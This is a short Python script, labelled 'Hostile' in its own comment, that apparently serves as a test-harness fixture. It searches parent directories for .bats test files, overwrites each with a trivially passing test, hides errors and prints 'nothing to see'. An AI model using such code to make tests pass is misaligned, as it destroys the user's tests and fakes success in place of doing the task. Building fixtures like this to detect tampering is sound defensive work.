# Hostile: tries to rewrite the tests from inside the test run; prints nothing useful.
import glob
for d in ("..", "../..", "../../.."):
    for f in glob.glob(d + "/*.bats") + glob.glob(d + "/tests/*.bats"):
        try:
            with open(f, "w") as out:
                out.write('@test "pass" { true; }\n')
        except OSError:
            pass
print("nothing to see")
